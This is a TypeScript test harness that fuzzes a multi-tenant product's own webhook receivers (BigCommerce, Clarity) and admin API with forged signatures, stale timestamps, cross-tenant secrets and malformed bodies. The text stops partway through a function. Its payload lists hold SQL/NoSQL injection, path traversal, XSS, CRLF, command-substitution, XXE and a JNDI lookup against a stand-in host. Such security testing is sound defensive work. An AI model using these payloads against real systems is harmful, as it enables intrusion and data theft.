import { createHash, createHmac, randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Client } from '@temporalio/client';
import type { Db } from 'mongodb';
import type { CredentialCipher } from '../../store/credential-cipher.js';
import { issueApiKey, revokeApiKey } from '../../store/api-keys.js';
import { loadCredentials } from '../../store/credentials.js';
import { createTenant, updateTenant } from '../../store/tenants.js';
import { seededRandom } from '../../sandbox/seeded-random.js';
import type { StorefrontKind } from '../../mappers/canonical-order.js';
import { readSettings } from '../../store/settings.js';

/**
 * The chaos run's bad-input sweep: hundreds of requests generated from a seed, each one a way
 * a caller (or an attacker) gets a webhook or an admin call wrong, sent to the running product
 * API. Every answer is compared with what that kind of request must get: a 4xx with a reason
 * (`{"error":{"code","message"}}`), or a 2xx no-op where the event is authentic but has
 * nothing to start (a redelivery, an event type or entity the product does not act on). No
 * request may be answered 5xx, and no workflow may start for any of the sweep's tenants.
 *
 * Signing is written here from the vendors' protocols (BigCommerce's custom secret header,
 * Standard Webhooks for Clarity), not imported from the sandboxes or the receivers, so a
 * misreading on either side shows up as a failed control request.
 */

export interface BadInputSweepOptions {
  /** The product API's base URL, e.g. http://127.0.0.1:3000. */
  apiUrl: string;
  db: Db;
  cipher: CredentialCipher;
  /** Tenants whose webhooks are registered (their secrets are read from the credential store). */
  tenants: Array<{ tenantId: string; storefront: StorefrontKind }>;
  /** How many bad requests to generate (controls and primes come on top); at least 500. */
  requests?: number;
  seed: number;
  /** Temporal, to count workflows started for the sweep's tenants while it ran. */
  client?: Client;
  /** Requests in flight at once (default 8). */
  concurrency?: number;
}

export interface BadInputReport {
  /** Every request sent: the bad ones plus the control and prime deliveries. */
  sent: number;
  byStatus: Record<string, number>;
  /** Kind (`{surface}:{kind}`) → status → count; `0` stands for no answer (network error, timeout). */
  byKind: Record<string, Record<string, number>>;
  serverErrors: number;
  /**
   * Workflow runs whose TenantId is one of the sweep's tenants (or its unknown-tenant ids) that
   * started during the bad requests, through visibility; without a client, the bad requests
   * answered as dispatched to a workflow.
   */
  workflowsStarted: number;
  /** Runs the control deliveries started (not counted in `workflowsStarted`); 0 without a client. */
  controlWorkflows: number;
  /** Requests that reached the listener the steered endpoints point at: any is a credential that left. */
  steeredRequestsReceived: number;
  /** Answers that differ from what their kind must get (never holds a secret). */
  unexpected: Array<{ kind: string; status: number; detail: string }>;
  /** What each kind must be answered with, as checked. */
  expected: Record<string, string>;
}

/** Kinds of webhook request and the answers each must get. */
export const webhookKindExpectations: Record<string, string> = {
  control:
    '200: valid deliveries sent first (a product update on both storefronts: starts the stock sync of a product that does not exist, counted apart), proving the signing is right; the replays repeat them',
  unsigned: '401: no secret header / no Standard Webhooks headers, or the secret in the wrong header',
  forged: '401: a wrong secret, a signature under another key, over other bytes, another timestamp, or malformed',
  stale: '401: webhook-timestamp outside ±5 minutes, in the past or the future, or not a number (Clarity)',
  replayed:
    'Clarity: the exact captured request again → 401 (replay guard); a redelivery with a new timestamp → 200 duplicate. BigCommerce (no timestamp in its scheme): the same delivery again → 200 duplicate. Nothing dispatched twice',
  'malformed-json':
    '400: validly authenticated bodies that are not JSON, not an object, or not the event shape; 400/415 for broken content encodings',
  oversized: '413: bodies over the receiver limit (64 KiB BigCommerce, 256 KiB Clarity), with a length or chunked',
  'wrong-content-type': '415: anything but application/json (or no type at all), even when validly authenticated',
  'cross-tenant':
    "401: another tenant's secret or signature on this tenant's URL, or a tenant's own credentials on a URL of the other storefront",
  'unknown-tenant':
    '401 for tenant ids that do not exist or are not ids (traversal, NoSQL, NUL); 400/404 for paths that are not a receiver or cannot be decoded',
  injection:
    'validly authenticated events with SQL/NoSQL/path/script/CRLF/unicode strings and non-strings: 400 where the field is checked (scopes, store, producer, ids, timestamps, anything naming a workflow); 200 ignored/duplicate where it is opaque on an event that starts nothing (BigCommerce hash and unused data on a customer deletion; Clarity event id and type on an unsubscribed type). Opaque Clarity fields of events that start a workflow (status, sku, productId, changedFields) get only non-strings and empty strings, which must be 400: a string there is a genuine event',
  'xml-metacharacters': 'as injection, with < & ]]> " and XML documents in every text field',
  poison:
    "400: validly authenticated events whose ids or SKUs no workflow can be named after (BigCommerce ids of 21 to 1,200 digits or holding a lone surrogate; Clarity order and return ids of 1,200 characters, SKUs of 1,500 characters or holding lone surrogates or control characters), which Temporal would refuse; a 2xx only as 'dead-lettered' (kept for an operator), never a 503 the store retries until it drops the hook",
};

export const adminKindExpectations: Record<string, string> = {
  control: '200: a tenant-scoped key reading its own tenant (proves the minted keys work)',
  'no-key': '401: no Authorization header, on reads and writes',
  'wrong-key': '401: unknown, forged, revoked, malformed or non-Bearer keys',
  'cross-tenant': "404: a key limited to tenant A on tenant B's resources (reads and writes), as for a tenant that does not exist",
  'insufficient-role': '403: a viewer key on writes',
  'malformed-body':
    '400 invalid JSON or field errors (injection strings, operators in place of values), 413 over 100 kB, 415 for other media types',
  'steered-endpoint':
    "400 naming the setting: tenant A's admin pointing its Intacct or storefront endpoint at a host off the operator's allow-list (a listener the sweep runs, Temporal's ports, cloud metadata, look-alike vendor hosts); the listener must receive nothing",
  'disabled-tenant':
    "403 tenant_disabled: a disabled tenant's own admin key on every kind of write, setting its tenant back to active included",
};

interface Prepared {
  headers: Record<string, string>;
  body?: Buffer | { chunks: Buffer[] };
}

interface Probe {
  kind: string;
  detail: string;
  method: string;
  path: string;
  /** Builds the request at send time (Clarity timestamps are the sender's clock). */
  prepare: (nowSeconds: number) => Prepared;
  statuses: readonly number[];
  /** Outcomes a 2xx may report. */
  outcomes?: readonly string[];
  /** The error code a refusal must carry. */
  errorCode?: string;
  /** Text the refusal must contain (the setting it names). */
  names?: string;
}

interface TenantSecrets {
  tenantId: string;
  storefront: StorefrontKind;
  secrets: string[];
}

type Random = ReturnType<typeof seededRandom>;
const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)]!;

/** SQL, NoSQL, path traversal, script, CRLF, template and unicode strings. */
export const injectionStrings: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE orders;--",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '{"$gt":""}',
  '{"$where":"sleep(5000) || true"}',
  '$where',
  '$ne',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/dev/zero',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  'line\r\nX-Injected: 1',
  '\r\n\r\nHTTP/1.1 200 OK\r\n',
  'nul\u0000byte',
  '\u0000',
  '\u202egnp.exe',
  'emoji 🧾💸',
  'z̷̡͉a̶l̸g̵o̷',
  '\ufeffbom',
  'ＡＢＣ１２３',
  'lone \ud800 surrogate',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '`id`',
  '$(id)',
  'A'.repeat(5000),
];

/** XML metacharacters and documents, for fields that may end up in an Intacct request. */
export const xmlStrings: readonly string[] = [
  '<',
  '&',
  ']]>',
  '"',
  "'",
  '>',
  '<![CDATA[x]]>',
  '&amp;&lt;&#x26;',
  '</referenceno><referenceno>EVIL',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!--',
  'a & b < c > d " e \' f ]]>',
];

/** Values that are not strings where strings are expected (NoSQL operators, arrays, nulls). */
const structuralValues: readonly unknown[] = [
  { $gt: '' },
  { $where: 'sleep(5000) || true' },
  { $ne: null },
  ['a', 'b'],
  null,
  true,
  1e308,
  {},
];

/** Visible ASCII with inner spaces: what an HTTP client can send unchanged as a header value. */
const headerSafe = (value: string) => /^[\x21-\x7E](?:[\x20-\x7E]*[\x21-\x7E])?$/.test(value);

/** Percent-encodes the UTF-8 bytes of any string (lone surrogates become U+FFFD, where encodeURIComponent throws). */
const percentEncode = (value: string): string =>
  [...Buffer.from(value, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

const json = (value: unknown) => Buffer.from(JSON.stringify(value), 'utf8');

function setPath(target: Record<string, unknown>, path: readonly string[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(target);
  let cursor: Record<string, unknown> = copy;
  for (const key of path.slice(0, -1)) cursor = cursor[key] as Record<string, unknown>;
  cursor[path.at(-1)!] = value;
  return copy;
}

const describeValue = (value: unknown): string => {
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…(${text.length} chars)` : text);
};

/** Standard Webhooks v1: HMAC-SHA256 keyed with base64-decode(secret without `whsec_`) over `id.timestamp.body`. */
function standardWebhooksSignature(secret: string, webhookId: string, timestamp: string, body: Buffer): string {
  const key = Buffer.from(secret.startsWith('whsec_') ? secret.slice('whsec_'.length) : secret, 'base64');
  return `v1,${createHmac('sha256', key).update(`${webhookId}.${timestamp}.`).update(body).digest('base64')}`;
}

const bigCommerceSecretHeader = 'X-Webhook-Secret';

/** Everything the generators share: tenants with their secrets, a run nonce, the seeded random source. */
class Generator {
  readonly bigCommerce: TenantSecrets[];
  readonly clarity: TenantSecrets[];
  /** Injected event ids sent so far this run (each is sent once: see the id probes). */
  readonly headerWebhookIds = new Set<string>();
  private counter = 0;
  /**
   * Every `webhook-id@webhook-timestamp` a Clarity probe was signed with: the receiver refuses
   * the exact pair twice as a replay (401), which Clarity never sends, so a probe whose id an
   * earlier one drew too is sent a second earlier instead.
   */
  private readonly claritySends = new Set<string>();

  constructor(
    readonly tenants: TenantSecrets[],
    readonly random: Random,
    /** Per run, so delivery ids do not collide with a previous run's in the delivery log. */
    readonly nonce: string,
    readonly unknownTenantIds: string[],
  ) {
    this.bigCommerce = tenants.filter((tenant) => tenant.storefront === 'bigcommerce');
    this.clarity = tenants.filter((tenant) => tenant.storefront === 'clarity');
  }

  next(): number {
    this.counter += 1;
    return this.counter;
  }

  other(tenant: TenantSecrets): TenantSecrets | undefined {
    const others = this.tenants.filter((candidate) => candidate.tenantId !== tenant.tenantId);
    return others.length === 0 ? undefined : pick(this.random, others);
  }

  // ---- BigCommerce -------------------------------------------------------------------------

  /**
   * A BigCommerce callback envelope. `order` and `product` events start workflows when
   * accepted; `customer` deletions start nothing and are acknowledged without being recorded.
   */
  bigCommerceEnvelope(scope: 'product' | 'order' | 'customer'): Record<string, unknown> {
    const n = this.next();
    return {
      scope: scope === 'product' ? 'store/product/updated' : scope === 'order' ? 'store/order/created' : 'store/customer/deleted',
      store_id: '1001',
      data: { type: scope, id: 700_000 + n },
      hash: createHash('sha1').update(`${this.nonce}:${n}`).digest('hex'),
      created_at: Math.floor(Date.now() / 1000),
      producer: 'stores/chaos',
    };
  }

  bigCommerceProbe(
    kind: string,
    tenant: TenantSecrets,
    detail: string,
    statuses: readonly number[],
    build: { headers?: Record<string, string>; body?: Buffer | { chunks: Buffer[] }; path?: string; outcomes?: readonly string[] },
  ): Probe {
    return {
      kind: `bigcommerce:${kind}`,
      detail,
      method: 'POST',
      path: build.path ?? `/webhooks/bigcommerce/${tenant.tenantId}`,
      prepare: () => ({
        headers: { 'content-type': 'application/json', ...build.headers },
        ...(build.body !== undefined && { body: build.body }),
      }),
      statuses,
      ...(build.outcomes && { outcomes: build.outcomes }),
    };
  }

  // ---- Clarity -----------------------------------------------------------------------------

  clarityEvent(type: 'product.updated' | 'order.created' | 'return.created'): Record<string, unknown> {
    const n = this.next();
    const id = `evt_chaos_${this.nonce}_${n}`;
    const data =
      type === 'product.updated'
        ? { productId: `P-${n}`, sku: `CHAOS-SKU-${n}`, changedFields: ['name'] }
        : type === 'order.created'
          ? { orderId: `CO-CHAOS-${n}`, status: 'processing' }
          : { returnId: `RMA-CHAOS-${n}`, orderId: `CO-CHAOS-${n}` };
    return { id, type, timestamp: new Date().toISOString().replace(/\.\d{3}Z$/, '.000Z'), data };
  }

  /**
   * A Clarity delivery: `sign` decides the headers from the body, the id and the send time
   * (a valid signature under the tenant's newest secret unless told otherwise).
   */
  clarityProbe(
    kind: string,
    tenant: TenantSecrets,
    detail: string,
    statuses: readonly number[],
    build: {
      body: Buffer | { chunks: Buffer[] };
      webhookId: string;
      headers?: (nowSeconds: number, signedBody: Buffer) => Record<string, string>;
      contentType?: string | null;
      path?: string;
      outcomes?: readonly string[];
    },
  ): Probe {
    const secret = tenant.secrets.at(-1)!;
    return {
      kind: `clarity:${kind}`,
      detail,
      method: 'POST',
      path: build.path ?? `/webhooks/clarity/${tenant.tenantId}`,
      prepare: (nowSeconds) => {
        const signedBody = Buffer.isBuffer(build.body) ? build.body : Buffer.concat(build.body.chunks);
        let sentAt = nowSeconds;
        while (build.headers === undefined && this.claritySends.has(`${build.webhookId}@${sentAt}`)) sentAt -= 1;
        this.claritySends.add(`${build.webhookId}@${sentAt}`);
        const timestamp = String(sentAt);
        const headers = build.headers
          ? build.headers(nowSeconds, signedBody)
          : {
              'webhook-id': build.webhookId,
              'webhook-timestamp': timestamp,
              'webhook-signature': standardWebhooksSignature(secret, build.webhookId, timestamp, signedBody),
            };
        const contentType = build.contentType === undefined ? 'application/json' : build.contentType;
        return { headers: { ...(contentType !== null && { 'content-type': contentType }), ...headers }, body: build.body };
      },
      statuses,
      ...(build.outcomes && { outcomes: build.outcomes }),
    };
  }
}

const ignoredOutcomes = ['ignored', 'duplicate'] as const;

// ---- webhook generators, one per kind: (generator, tenant) → probe ---------------------------

type WebhookGenerator = (g: Generator, tenant: TenantSecrets) => Probe | undefined;

const bigCommerce: Record<string, WebhookGenerator> = {
  unsigned(g, tenant) {
    const body = json(g.bigCommerceEnvelope('order'));
    const secret = tenant.secrets.at(-1)!;
    const variants: Array<[string, Record<string, string>]> = [
      ['no secret header', {}],
      ['empty secret header', { [bigCommerceSecretHeader]: '' }],
      ['the secret as a bearer token', { authorization: `Bearer ${secret}` }],
      ['the secret under another header name', { 'X-Webhook-Secrets': secret }],
      ['the secret as a query parameter', {}],
      [
        'a Standard Webhooks signature instead of the header',
        {
          'webhook-id': 'x',
          'webhook-timestamp': String(Math.floor(Date.now() / 1000)),
          'webhook-signature': standardWebhooksSignature(secret, 'x', String(Math.floor(Date.now() / 1000)), body),
        },
      ],
    ];
    const [detail, headers] = pick(g.random, variants);
    const path =
      detail === 'the secret as a query parameter'
        ? `/webhooks/bigcommerce/${tenant.tenantId}?secret=${encodeURIComponent(secret)}`
        : undefined;
    return g.bigCommerceProbe('unsigned', tenant, detail, [401], { headers, body, ...(path && { path }) });
  },
  forged(g, tenant) {
    const body = json(g.bigCommerceEnvelope(pick(g.random, ['product', 'order'] as const)));
    const secret = tenant.secrets.at(-1)!;
    const flipped = `${secret.slice(0, -1)}${secret.endsWith('A') ? 'B' : 'A'}`;
    const variants: Array<[string, string]> = [
      ['a random secret', randomBytes(24).toString('base64url')],
      ['the secret with its last character changed', flipped],
      ['the secret with a character appended', `${secret}x`],
      ['the secret truncated', secret.slice(0, -4)],
      ['the secret upper-cased', secret.toUpperCase() === secret ? `${secret}Z` : secret.toUpperCase()],
      ['a hex SHA-256 of the secret', createHash('sha256').update(secret).digest('hex')],
      ['an injection string', pick(g.random, injectionStrings.filter(headerSafe))],
    ];
    const [detail, offered] = pick(g.random, variants);
    return g.bigCommerceProbe('forged', tenant, detail, [401], { headers: { [bigCommerceSecretHeader]: offered }, body });
  },
  'malformed-json'(g, tenant) {
    const headers = { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! };
    const [detail, body, statuses, extraHeaders] = pick(g.random, malformedBodies(g));
    return g.bigCommerceProbe('malformed-json', tenant, detail, statuses, { headers: { ...headers, ...extraHeaders }, body });
  },
  oversized(g, tenant) {
    return oversizedProbe(g, tenant, 64 * 1024);
  },
  'wrong-content-type'(g, tenant) {
    const [detail, contentType, body] = pick(g.random, wrongContentTypes(json(g.bigCommerceEnvelope('order'))));
    const probe = g.bigCommerceProbe('wrong-content-type', tenant, detail, [415], {
      headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
      body,
    });
    return withContentType(probe, contentType);
  },
  'cross-tenant'(g, tenant) {
    const other = g.other(tenant);
    if (!other) return undefined;
    const body = json(g.bigCommerceEnvelope('order'));
    if (other.storefront === 'bigcommerce' || g.random() < 0.5) {
      return g.bigCommerceProbe('cross-tenant', tenant, `the webhook secret of tenant ${other.tenantId} (${other.storefront})`, [401], {
        headers: { [bigCommerceSecretHeader]: other.secrets.at(-1)! },
        body,
      });
    }
    return g.bigCommerceProbe(
      'cross-tenant',
      tenant,
      `tenant ${tenant.tenantId}'s own secret on the BigCommerce URL of ${other.storefront} tenant ${other.tenantId}`,
      [401],
      {
        headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
        body,
        path: `/webhooks/bigcommerce/${other.tenantId}`,
      },
    );
  },
  'unknown-tenant'(g, tenant) {
    const body = json(g.bigCommerceEnvelope('order'));
    const [detail, segment, statuses] = pick(g.random, unknownTenantSegments(g));
    return g.bigCommerceProbe('unknown-tenant', tenant, detail, statuses, {
      headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
      body,
      path: `/webhooks/bigcommerce/${segment}`,
    });
  },
  replayed() {
    return undefined; // built from the primes, see replayProbes
  },
  injection(g, tenant) {
    return bigCommerceFieldProbe(g, tenant, 'injection', [...injectionStrings, ...structuralValues]);
  },
  'xml-metacharacters'(g, tenant) {
    return bigCommerceFieldProbe(g, tenant, 'xml-metacharacters', xmlStrings);
  },
  poison(g, tenant) {
    const digits = (count: number) => Array.from({ length: count }, (_unused, index) => String((index * 7 + 3) % 10)).join('');
    const variants: Array<[string, 'order' | 'product', string[], unknown]> = [
      ['an order id of 1,200 digits', 'order', ['data', 'id'], `9${digits(1_199)}`],
      ['a product id of 1,200 digits', 'product', ['data', 'id'], `1${digits(1_199)}`],
      ['an order id of 21 digits', 'order', ['data', 'id'], `1${digits(20)}`],
      ['an order id with a lone surrogate', 'order', ['data', 'id'], '250\ud800'],
      ['an order id as a number past the safe integers', 'order', ['data', 'id'], 1e21],
    ];
    const [detail, scope, path, value] = pick(g.random, variants);
    return g.bigCommerceProbe('poison', tenant, detail, [400, 200], {
      headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
      body: json(setPath(g.bigCommerceEnvelope(scope), path, value)),
      outcomes: ['dead-lettered'],
    });
  },
};

/**
 * One text field of a validly authenticated envelope replaced. Fields that pick what is
 * started (scope, store, producer, ids, time) are checked and must be refused, on events that
 * would start a workflow if they were not; the hash (the delivery id) and unused `data` fields
 * are opaque, so they are tried on a customer deletion, which is acknowledged without being
 * recorded and starts nothing (on an order they would rightly start the order's workflow).
 */
function bigCommerceFieldProbe(g: Generator, tenant: TenantSecrets, kind: string, values: readonly unknown[]): Probe {
  const value = pick(g.random, values);
  const starting = () => pick(g.random, ['product', 'order'] as const);
  const fields: Array<{ path: string[]; scope: 'product' | 'order' | 'customer'; accepted: (value: unknown) => boolean }> = [
    { path: ['scope'], scope: starting(), accepted: () => false },
    { path: ['store_id'], scope: starting(), accepted: () => false },
    { path: ['producer'], scope: starting(), accepted: () => false },
    { path: ['data', 'id'], scope: starting(), accepted: () => false },
    { path: ['created_at'], scope: starting(), accepted: () => false },
    {
      path: ['hash'],
      scope: 'customer',
      accepted: (candidate) => typeof candidate === 'string' && candidate.length >= 1 && candidate.length <= 128,
    },
    { path: ['data', 'type'], scope: 'customer', accepted: () => true },
    { path: ['data', 'comment'], scope: 'customer', accepted: () => true },
  ];
  const field = pick(g.random, fields);
  const envelope = setPath(g.bigCommerceEnvelope(field.scope), field.path, value);
  const accepted = field.accepted(value);
  return g.bigCommerceProbe(
    kind,
    tenant,
    `${field.path.join('.')} of a ${field.scope} event = ${describeValue(value)}`,
    accepted ? [200] : [400],
    {
      headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
      body: json(envelope),
      ...(accepted && { outcomes: ignoredOutcomes }),
    },
  );
}

const clarity: Record<string, WebhookGenerator> = {
  unsigned(g, tenant) {
    const event = g.clarityEvent('order.created');
    const body = json(event);
    const id = String(event.id);
    const secret = tenant.secrets.at(-1)!;
    const variants: Array<[string, (now: number) => Record<string, string>]> = [
      ['no webhook headers', () => ({})],
      ['no webhook-signature', (now) => ({ 'webhook-id': id, 'webhook-timestamp': String(now) })],
      [
        'no webhook-timestamp',
        (now) => ({ 'webhook-id': id, 'webhook-signature': standardWebhooksSignature(secret, id, String(now), body) }),
      ],
      [
        'no webhook-id',
        (now) => ({ 'webhook-timestamp': String(now), 'webhook-signature': standardWebhooksSignature(secret, id, String(now), body) }),
      ],
      [
        'an empty webhook-id',
        (now) => ({
          'webhook-id': '',
          'webhook-timestamp': String(now),
          'webhook-signature': standardWebhooksSignature(secret, '', String(now), body),
        }),
      ],
      ['an empty webhook-signature', (now) => ({ 'webhook-id': id, 'webhook-timestamp': String(now), 'webhook-signature': '' })],
      ['the secret itself in a header', (now) => ({ 'webhook-id': id, 'webhook-timestamp': String(now), 'X-Webhook-Secret': secret })],
    ];
    const [detail, headers] = pick(g.random, variants);
    return g.clarityProbe('unsigned', tenant, detail, [401], { body, webhookId: id, headers });
  },
  forged(g, tenant) {
    const event = g.clarityEvent(pick(g.random, ['product.updated', 'order.created', 'return.created'] as const));
    const body = json(event);
    const id = String(event.id);
    const secret = tenant.secrets.at(-1)!;
    const randomSecret = `whsec_${randomBytes(32).toString('base64')}`;
    const variants: Array<[string, (now: number) => string]> = [
      ['signed under a random key', (now) => standardWebhooksSignature(randomSecret, id, String(now), body)],
      [
        'signed over other bytes (body changed after signing)',
        (now) => standardWebhooksSignature(secret, id, String(now), Buffer.concat([body, Buffer.from(' ')])),
      ],
      ['signed for another timestamp', (now) => standardWebhooksSignature(secret, id, String(now - 1), body)],
      ['signed for another webhook-id', (now) => standardWebhooksSignature(secret, `${id}x`, String(now), body)],
      [
        'signed with the secret text as the key (not base64-decoded)',
        (now) => `v1,${createHmac('sha256', secret).update(`${id}.${now}.`).update(body).digest('base64')}`,
      ],
      ['a v1a (asymmetric) signature', (now) => standardWebhooksSignature(secret, id, String(now), body).replace('v1,', 'v1a,')],
      ['v1 with garbage', () => 'v1,not-base64!!'],
      ['v1 with nothing', () => 'v1,'],
      ['the signature without its version', (now) => standardWebhooksSignature(secret, id, String(now), body).slice(3)],
      [
        'the signature hex-encoded',
        (now) =>
          `v1,${createHmac('sha256', Buffer.from(secret.slice(6), 'base64'))
            .update(`${id}.${now}.`)
            .update(body)
            .digest('hex')}`,
      ],
      ['a truncated signature', (now) => standardWebhooksSignature(secret, id, String(now), body).slice(0, 20)],
      ['an injection string', () => pick(g.random, injectionStrings.filter(headerSafe))],
    ];
    const [detail, signature] = pick(g.random, variants);
    return g.clarityProbe('forged', tenant, detail, [401], {
      body,
      webhookId: id,
      headers: (now) => ({ 'webhook-id': id, 'webhook-timestamp': String(now), 'webhook-signature': signature(now) }),
    });
  },
  stale(g, tenant) {
    const event = g.clarityEvent(pick(g.random, ['product.updated', 'order.created', 'return.created'] as const));
    const body = json(event);
    const id = String(event.id);
    const secret = tenant.secrets.at(-1)!;
    const skew = 400 + Math.floor(g.random() * 86_400);
    const variants: Array<[string, (now: number) => string]> = [
      [`${skew} s old`, (now) => String(now - skew)],
      [`${skew} s in the future`, (now) => String(now + skew)],
      ['in milliseconds', (now) => String(now * 1000)],
      ['zero', () => '0'],
      ['negative', (now) => String(-now)],
      ['ISO 8601 instead of unix seconds', (now) => new Date(now * 1000).toISOString()],
      ['with a fraction', (now) => `${now}.5`],
      ['with a leading +', (now) => `+${now}`],
      ['hexadecimal', (now) => `0x${now.toString(16)}`],
      ['a huge number', () => '9'.repeat(40)],
    ];
    const [detail, timestamp] = pick(g.random, variants);
    // Signed correctly for the timestamp sent: only the freshness check may refuse it.
    return g.clarityProbe('stale', tenant, `webhook-timestamp ${detail}, validly signed`, [401], {
      body,
      webhookId: id,
      headers: (now) => ({
        'webhook-id': id,
        'webhook-timestamp': timestamp(now),
        'webhook-signature': standardWebhooksSignature(secret, id, timestamp(now), body),
      }),
    });
  },
  'malformed-json'(g, tenant) {
    const [detail, body, statuses, extraHeaders] = pick(g.random, malformedBodies(g));
    const id = `evt_chaos_${g.nonce}_${g.next()}`;
    const secret = tenant.secrets.at(-1)!;
    const raw = Buffer.isBuffer(body) ? body : Buffer.concat(body.chunks);
    return g.clarityProbe('malformed-json', tenant, detail, statuses, {
      body,
      webhookId: id,
      headers: (now) => ({
        ...extraHeaders,
        'webhook-id': id,
        'webhook-timestamp': String(now),
        'webhook-signature': standardWebhooksSignature(secret, id, String(now), raw),
      }),
    });
  },
  oversized(g, tenant) {
    return oversizedProbe(g, tenant, 256 * 1024);
  },
  'wrong-content-type'(g, tenant) {
    const event = g.clarityEvent('order.created');
    const [detail, contentType, body] = pick(g.random, wrongContentTypes(json(event)));
    return g.clarityProbe('wrong-content-type', tenant, detail, [415], { body, webhookId: String(event.id), contentType });
  },
  'cross-tenant'(g, tenant) {
    const other = g.other(tenant);
    if (!other) return undefined;
    const event = g.clarityEvent('order.created');
    const body = json(event);
    const id = String(event.id);
    if (other.storefront === 'clarity' || g.random() < 0.5) {
      const otherSecret = other.secrets.at(-1)!;
      return g.clarityProbe(
        'cross-tenant',
        tenant,
        `signed with the webhook secret of tenant ${other.tenantId} (${other.storefront})`,
        [401],
        {
          body,
          webhookId: id,
          headers: (now) => ({
            'webhook-id': id,
            'webhook-timestamp': String(now),
            'webhook-signature': standardWebhooksSignature(otherSecret, id, String(now), body),
          }),
        },
      );
    }
    return g.clarityProbe(
      'cross-tenant',
      tenant,
      `tenant ${tenant.tenantId}'s valid signature on the Clarity URL of ${other.storefront} tenant ${other.tenantId}`,
      [401],
      {
        body,
        webhookId: id,
        path: `/webhooks/clarity/${other.tenantId}`,
      },
    );
  },
  'unknown-tenant'(g, tenant) {
    const event = g.clarityEvent('order.created');
    const [detail, segment, statuses] = pick(g.random, unknownTenantSegments(g));
    return g.clarityProbe('unknown-tenant', tenant, detail, statuses, {
      body: json(event),
      webhookId: String(event.id),
      path: `/webhooks/clarity/${segment}`,
    });
  },
  replayed() {
    return undefined;
  },
  injection(g, tenant) {
    return clarityFieldProbe(g, tenant, 'injection', [...injectionStrings, ...structuralValues]);
  },
  'xml-metacharacters'(g, tenant) {
    return clarityFieldProbe(g, tenant, 'xml-metacharacters', xmlStrings);
  },
  poison(g, tenant) {
    const variants: Array<[string, 'product.updated' | 'order.created' | 'return.created', string[], string]> = [
      ['a SKU of 1,500 characters', 'product.updated', ['data', 'sku'], `SKU-${'S'.repeat(1_496)}`],
      ['a SKU of 300 bytes of UTF-8 in 100 characters', 'product.updated', ['data', 'sku'], '€'.repeat(100)],
      ['a SKU with a lone high surrogate', 'product.updated', ['data', 'sku'], 'SKU-\ud800'],
      ['a SKU with a lone low surrogate', 'product.updated', ['data', 'sku'], '\udfffSKU'],
      ['a SKU with a line break', 'product.updated', ['data', 'sku'], 'SKU\r\n1'],
      ['an order id of 1,200 characters', 'order.created', ['data', 'orderId'], `CO-${'1'.repeat(1_197)}`],
      ['a return id of 1,200 characters', 'return.created', ['data', 'returnId'], `RMA-${'3'.repeat(1_196)}`],
    ];
    const [detail, type, path, value] = pick(g.random, variants);
    const event = setPath(g.clarityEvent(type), path, value);
    return g.clarityProbe('poison', tenant, detail, [400, 200], {
      body: json(event),
      webhookId: String(event.id),
      outcomes: ['dead-lettered'],
    });
  },
};

/**
 * One text field of a validly signed Clarity event replaced. Ids that name a workflow (order,
 * return) and the timestamp must be refused whatever they hold. Clarity has no event that is
 * dispatched yet starts nothing (orders, returns and product updates all start their
 * workflow), so a string in an opaque field (`status`, `sku`, `productId`, `changedFields`,
 * the event id) would be a genuine event that rightly starts one: those fields get only
 * non-strings and empty strings, which must be refused, and the event id and type are tried on
 * an event of a type the product does not subscribe to, which is acknowledged and ignored.
 */
function clarityFieldProbe(g: Generator, tenant: TenantSecrets, kind: string, values: readonly unknown[]): Probe {
  type Field = { type: 'product.updated' | 'order.created' | 'return.created'; path: string[]; strings: boolean };
  const anyType = () => pick(g.random, ['product.updated', 'order.created', 'return.created'] as const);
  const fields: Field[] = [
    { type: anyType(), path: ['type'], strings: true },
    { type: anyType(), path: ['id'], strings: true },
    { type: anyType(), path: ['timestamp'], strings: true },
    { type: 'order.created', path: ['data', 'orderId'], strings: true },
    { type: 'return.created', path: ['data', 'returnId'], strings: true },
    { type: 'return.created', path: ['data', 'orderId'], strings: true },
    { type: 'order.created', path: ['data', 'status'], strings: false },
    { type: 'product.updated', path: ['data', 'productId'], strings: false },
    { type: 'product.updated', path: ['data', 'sku'], strings: false },
    { type: 'product.updated', path: ['data', 'changedFields'], strings: false },
  ];
  const field = pick(g.random, fields);
  // A string in an opaque field would make a genuine event; '' is one too where the contract allows it (status).
  const refusedEmpty = field.path[1] === 'productId' || field.path[1] === 'sku' ? [''] : [];
  const candidates = field.strings
    ? values
    : [...values.filter((value) => typeof value !== 'string'), ...structuralValues, ...refusedEmpty];
  const value = pick(g.random, candidates);
  // changedFields is a list of strings: a non-string goes in as the list or, when it is a list, inside one.
  let placed = field.path[1] === 'changedFields' && Array.isArray(value) ? [value] : value;
  if (field.path[0] === 'id' && typeof value === 'string') {
    // The id is also the webhook-id header: a second delivery with the same id in the same second is rightly refused as a replay, so each id is sent once.
    if (g.headerWebhookIds.has(value)) placed = `${value}-${g.next()}`;
    g.headerWebhookIds.add(placed as string);
  }
  let event = setPath(g.clarityEvent(field.type), field.path, placed);
  // A header cannot carry every id (HTTP header values are Latin-1): such an id travels in the body only.
